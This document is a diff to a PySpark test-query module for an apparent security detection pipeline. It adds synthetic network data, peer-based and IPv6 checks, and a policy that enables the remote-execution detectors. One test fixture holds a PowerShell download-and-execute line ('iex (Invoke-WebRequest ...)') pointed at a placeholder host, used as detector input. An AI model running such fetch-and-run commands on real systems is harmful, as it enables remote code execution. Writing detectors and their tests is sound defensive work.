@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
@@ -12,6 +14,8 @@ from .policy import DEFAULT, Policy
 
 #: A policy for fleets too small for the default bounds (the smallest test tables).
 SMALL = Policy(min_fleet_hosts=5)
+#: The default with the detectors on that are off by themselves.
+EXECUTION = Policy(execution_enabled=True, contextual_enabled=True).checked()
 CAP = DEFAULT.maximum_contexts_per_host_day
 #: The last day of ``events``, its live day, and a collection clock at that day's end.
 LIVE_DAY = 19752
@@ -151,7 +155,35 @@ def dt03_remote_execution(spark: SparkSession, d: str) -> DataFrame:
     app = F.element_at(F.array(*map(F.lit, ["powershell.exe", "mshta.exe", "notepad.exe", "cmd.exe"])), (k % 4 + 1).cast("int"))
     command = F.element_at(F.array(*map(F.lit, ["x https://a.example/p", "iex (Invoke-WebRequest HTTP://a.example)", "start-process y", "javascript:z http://b"])), (k % 7 % 4 + 1).cast("int"))
     starts = novelty_view(spark, d).select("event_id", "host", app.alias("app"), command.alias("command"))
-    return execution.remote_execution(starts).select("event_id", "host", "app", "priority")
+    return execution.remote_execution(starts, EXECUTION).select("event_id", "host", "app", "priority")
+
+
+def _network(obs: DataFrame) -> DataFrame:
+    """Purchases as connections, to addresses by their number: a tenth private, a tenth not begun here, some of IPv6."""
+    n = F.col("event_id")
+    address = F.when(n % 10 == 0, F.concat(F.lit("10.0.0."), (n % 250).cast("string"))).when(n % 10 == 5, F.concat(F.lit("2620:0:1::"), F.lower(F.hex(n % 4096)))).otherwise(F.concat(F.lit("8.8."), (n % 7).cast("string"), F.lit("."), (n % 250).cast("string")))
+    return obs.where("event_type = 'purchase'").select("host", F.col("k").alias("guid"), "ts", address.alias("destination"), (n % 10 != 1).alias("initiated"))
+
+
+def dt04_peers(spark: SparkSession, d: str) -> DataFrame:
+    """As below, but for contexts that enough peers (all hosts of the same rest by 6) show."""
+    obs = novelty_view(spark, d)
+    start = F.struct("ts", "event_id", "day", *novelty.PATTERN)
+    starts = obs.where("event_type = 'click'").groupBy("host", F.col("k").alias("guid")).agg(F.min(start).alias("s"))
+    starts = starts.select("host", "guid", F.col("s.ts").alias("created"), "s.day", *[F.col(f"s.{c}") for c in novelty.PATTERN], (F.col("guid") % 10 == 3).alias("encoded"))
+    hosts = obs.select("host").distinct().withColumn("grp", F.col("host").cast("int") % 6)
+    shown = obs.select("host", *novelty.PATTERN).distinct().join(hosts, "host").groupBy("grp", *novelty.PATTERN).agg(F.count(F.lit(1)).alias("peer_seen"))
+    size = hosts.groupBy("grp").agg(F.count(F.lit(1)).alias("peer_eligible"))
+    peer = hosts.join(shown, "grp").join(size, "grp").select("host", *novelty.PATTERN, "peer_eligible", "peer_seen")
+    return execution.outbound_from_new_context(starts, _network(obs), _days(spark, d), replace(EXECUTION, minimum_peer_hosts=3), peer).select("host", "guid", *novelty.PATTERN)
+
+
+def global_ipv6(spark: SparkSession, d: str) -> DataFrame:
+    """Addresses made of order keys, whole and shortened, by whether they are global."""
+    key = F.col("o_orderkey")
+    first = F.element_at(F.array(*map(F.lit, ["2001:db8", "2620:0", "fe80:1", "fc00:2", "2001:4", "2001:20", "2400:cb00", "64:ff9b", "0:0", "2002:5"])), (key % 10 + 1).cast("int"))
+    address = F.when(key % 3 == 0, F.concat(first, F.lit("::"), F.lower(F.hex(key)))).when(key % 3 == 1, F.concat(first, F.lit(":0:0:0:0:0:"), F.lower(F.hex(key)))).otherwise(F.concat(first, F.lit(":::"), key.cast("string")))
+    return spark.read.parquet(f"{d}/orders.parquet").select("o_orderkey", address.alias("address"), correlation.is_global(address).alias("is_global"))
 
 
 def dt04_outbound_from_new_context(spark: SparkSession, d: str) -> DataFrame:
@@ -160,8 +192,8 @@ def dt04_outbound_from_new_context(spark: SparkSession, d: str) -> DataFrame:
     start = F.struct("ts", "event_id", "day", *novelty.PATTERN)
     starts = obs.where("event_type = 'click'").groupBy("host", F.col("k").alias("guid")).agg(F.min(start).alias("s"))
     starts = starts.select("host", "guid", F.col("s.ts").alias("created"), "s.day", *[F.col(f"s.{c}") for c in novelty.PATTERN], (F.col("guid") % 10 == 3).alias("encoded"))
-    network = obs.where("event_type = 'purchase'").select("host", F.col("k").alias("guid"), "ts")
-    return execution.outbound_from_new_context(starts, network, _days(spark, d), DEFAULT).select("host", "guid", *novelty.PATTERN, _r("created"), _r("network_ts"))
+    network = _network(obs)
+    return execution.outbound_from_new_context(starts, network, _days(spark, d), EXECUTION).select("host", "guid", *novelty.PATTERN, _r("created"), _r("network_ts"))
 
 
 # --- correlation, admission, queues
@@ -485,7 +517,7 @@ QUERIES = {
     f.__name__: f
     for f in (
         host_rollup, coverage, behavior_days, behavior_days_capped, distinct_estimates, sketch_merge, network_windows, references, references_all_days, app_support, pattern_support,
-        fleet_hosts, local_app_days, qualified_peers, peer_evidence, dt01_novelty, dt02_funnel, dt03_remote_execution, dt04_outbound_from_new_context, findings, findings_unexpected, process_network, admission, unseen, queue_metrics, next_batches,
+        fleet_hosts, local_app_days, qualified_peers, peer_evidence, dt01_novelty, dt02_funnel, dt03_remote_execution, dt04_outbound_from_new_context, dt04_peers, global_ipv6, findings, findings_unexpected, process_network, admission, unseen, queue_metrics, next_batches,
         global_addresses, prevalence, bundles, document_frequency, feature_weights, technical_vectors, technical_pairs, candidate_pairs, peer_pairs, peer_components, peer_groups, technical_clusters, technical_clusters_alone, group_catalogue, suppressing_groups,
         group_explanations, group_centroids, observed_day_bands, strata, cohort_seeds, app_pairs, cohort_overlaps, cohort_persistence, cohort_pair_overlaps, matched_controls, best_groups, finding_families, finding_families_top, variant_examples,
         finding_search, inbox, findings_table_page, finding_triggers, csv_cells, discover, endpoint_coverage, command_flags, path_functions, text_functions,
